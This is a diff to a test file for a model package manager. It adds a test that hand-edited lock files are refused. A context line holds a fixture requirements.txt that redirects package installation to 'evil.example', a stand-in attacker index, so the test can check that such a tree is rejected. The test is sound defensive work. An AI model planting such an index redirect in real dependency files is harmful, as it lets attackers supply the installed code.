@@ -82,6 +82,22 @@ def test_a_lock_whose_requirements_were_edited_is_refused(upstream, project):
         assert "declares [xlm]" in result.output and "edited by hand" in result.output
 
 
+def test_a_lock_whose_package_was_edited_is_refused_and_a_missing_one_recorded(upstream, project):
+    repo = git_model(upstream, "pkgd", "xlm")
+    xpm(project, "add", f"{repo.url}@v1.0.0")
+    lock = project / "xlm.lock"
+    good = lock.read_text()
+    lock.write_text(good.replace('package = "pkgd"', 'package = "other"'))
+    for prepare in (lambda: None, lambda: shutil.rmtree(project / "xlm_models" / "pkgd")):  # kept, then exported again
+        prepare()
+        result = xpm(project, "install", code=1)
+        assert "model 'pkgd' records package 'other', but its locked tree" in result.output and "holds package 'pkgd'" in result.output
+        assert "edited by hand" in result.output
+    lock.write_text(good.replace('package = "pkgd"\n', ""))
+    xpm(project, "install")
+    assert lock.read_text() == good
+
+
 def test_a_tree_whose_declaration_cannot_be_read_is_not_installed(upstream, project):
     repo = upstream("lab/badreq")
     repo.commit("model", {**model_files("badreq"), "requirements.txt": "ok-pkg\n--index-url https://evil.example/simple\n"})
